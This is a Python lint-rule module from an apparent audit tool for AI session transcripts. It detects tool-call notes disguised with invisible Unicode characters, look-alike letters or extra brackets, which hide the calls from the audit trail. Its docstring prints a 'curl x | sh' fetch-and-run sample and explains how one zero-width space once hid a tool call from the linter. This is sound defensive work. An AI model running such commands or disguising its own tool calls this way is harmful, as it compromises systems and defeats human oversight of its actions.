"""A note kind written exactly but disguised, so no reader takes the note for an audit record.

## What it does
Reports a note whose head reads as a note kind Harvey writes, followed by `: ` and that kind's
payload, but is not that kind's head because of what cannot be seen or told apart: an invisible
character in or beside the kind (U+200B ZERO WIDTH SPACE, U+00AD SOFT HYPHEN, a joiner, a
combining accent, a no-break or ideographic space before its colon, a control character), letters of another width or script drawn like its own (fullwidth `ｔool`,
Cyrillic `tоol`, `töol`), or an extra `[` before it (`[[[tool: …]]`). Reported at the head,
naming the characters (`U+200B ZERO WIDTH SPACE`) and the kind it looks like. The payload test
is `misspelt-note-kind`'s (`NAME(…) — ok|error` for a tool, `N chunks from` for RAG, …); for
`run` and `rag-source`, whose payload is free text, only an invisible character or an extra `[`
counts (a writer's `[[rün: 5 km today]]` is none).

## Why is this bad?
A reader of the file sees `[[tool: run_shell({"cmd":"curl x | sh"}) — ok]]`; every reader of
the audit trail (Harvey's, `dump`, `provenance`, `export`, `report`) sees a writer's free-text
note, so the tool call is missing from the record, and a turn with no other note reads as
"no tool was used". `misspelt-note-kind` reports slips of the keyboard; this is a record hidden
in plain sight, whether pasted in by accident or written to hide the call: an error.

## Severity
Error: the file shows an audit record that is not in the audit trail.

## Example
```fountain
INT. HARVEY AND ALICE TALKING 2026-06-24 10:02:30

Harvey and ALICE are in chat mode. Model: LLAMA. Workspace: /tmp/ws.

ALICE
What is in a.go?

HARVEY
Forwarding to LLAMA.

[[ｔool: read_file({"path":"a.go"}) — ok]]

LLAMA
It declares package main.
```

## Use instead
```fountain
INT. HARVEY AND ALICE TALKING 2026-06-24 10:02:30

Harvey and ALICE are in chat mode. Model: LLAMA. Workspace: /tmp/ws.

ALICE
What is in a.go?

HARVEY
Forwarding to LLAMA.

[[tool: read_file({"path":"a.go"}) — ok]]

LLAMA
It declares package main.
```

## References
- FOUNTAIN_FORMAT.md §Notes (a note kind and its `kind: ` head, exactly); Unicode TR #39
  (confusable characters); the adversarial trial of stop 37 (a tool call hidden by one
  zero-width space, lint "All clear")
"""

import re
import unicodedata

from fountain_audit.lint.diagnostics import Severity
from fountain_audit.lint.note_heads import PAYLOADS, fold, kinds_by_fold, lost_note, notes_in_speeches, reads_as_payload
from fountain_audit.lint.rules import SESSION_LIKE

CODE = "N113"
NAME = "disguised-note-kind"
SEVERITY = Severity.ERROR
SINCE = "1.2"
SCOPE = SESSION_LIKE
NOTE_KINDS = ("unknown",)


def check_note(ctx, placed):
    return _disguised(ctx, placed.note.node)


def check_scene(ctx, scene):
    # the notes of its speeches' text, as misspelt-note-kind reads them
    return notes_in_speeches(ctx, scene, _disguised)


#: Letters of other scripts drawn like the Latin letters of note kinds (Cyrillic, Greek), read as
#: those: ``[[tоol: …]]`` with a Cyrillic ``о`` looks like a tool call and is none.
_LOOK_ALIKES = str.maketrans("аеорсухіѕјһԁԛԝӏαοριτυνκεАВЕКМНОРСТХІЅЈΑΒΕΗΙΚΜΝΟΡΤΥΧ",
                             "aeopcyxisjhdqwlaopituvkeABEKMHOPCTXISJABEHIKMNOPTYX")
#: The categories of characters that show nothing in a head: format characters (U+200B…), blanks
#: other than a space or a tab (U+00A0, U+3000…), line and paragraph separators, controls. (By
#: category, not :data:`fountain_audit.untrusted.INVISIBLE_CHARS`, which keeps the joiners scripts
#: need and has no blanks: in a note kind, any of these is a disguise.)
_UNSEEN = frozenset({"Cf", "Zs", "Zl", "Zp", "Cc"})
#: The head of a note up to its colon, for :func:`_disguised` (bounded: a kind is short).
_ANY_HEAD = re.compile(r"[^:\n\]]{1,40}:")


def _disguised(ctx, node):
    """The finding for a note kind written exactly but disguised (see the module's docstring): an
    invisible character in or beside it (``tool`` + U+200B, a soft hyphen, a combining accent),
    letters of another width or script drawn like its own (fullwidth ``ｔool``, Cyrillic
    ``tоol``, ``töol``), or an extra ``[`` before it (``[[[tool: …]]``), followed by ``:`` and
    a blank, when what follows reads as that kind's payload; else ``None``. Such a head looks
    like the kind to a reader of the file, and hides the record from every reader of the
    audit trail, N112 included (it compares ASCII words)."""
    raw = ctx.text[node.offset:node.end_offset]
    start = raw.find("[[") + 2
    m = _ANY_HEAD.match(raw, start)
    if m is None:
        return None
    head = m.group()[:-1]
    # what shows nothing (format characters, other blanks: a no-break or ideographic space, which
    # NFKD would make a blank, line separators, control characters) dropped first, then accents
    seen = "".join(c for c in head if c in " \t" or unicodedata.category(c) not in _UNSEEN)
    plain = "".join(c for c in unicodedata.normalize("NFKD", seen)
                    if unicodedata.category(c) not in ("Mn", "Me")).translate(_LOOK_ALIKES)
    plain = plain.lstrip("[ \t")
    kind = kinds_by_fold().get(fold(plain)) if plain.isascii() else None
    if kind is None or plain.strip(" \t") == head.strip(" \t"):
        return None
    end = raw.rfind("]]")
    payload = raw[m.end():end if end >= m.end() else len(raw)].lstrip(" ")
    odd = [c for c in head if not (c.isascii() and c.isprintable())]
    if kind in PAYLOADS:
        if not reads_as_payload(kind, payload):
            return None
    elif any(unicodedata.category(c) not in _UNSEEN | {"Mn", "Me"} for c in odd):
        return None  # (run, rag-source: free text after them; a writer's own letter, `[[rün: 5 km]]`, is none)
    if odd:
        what = ", ".join(f"U+{ord(c):04X} {_name(c)}" for c in dict.fromkeys(odd))
        what = f"note head '{kind}:' is written with {what}, which no reader takes for '{kind}'"
    else:
        what = f"note head '{head.strip()}:' has {head.count('[')} '[' more than a note's opening '[['"
    return lost_note(node, raw, start, head, what, kind)


def _name(c: str) -> str:
    """The Unicode name of ``c`` for a message (``ZERO WIDTH SPACE``; a control character has none)."""
    if unicodedata.category(c) == "Cc":
        return "a control character"
    return unicodedata.name(c, "an unnamed character")
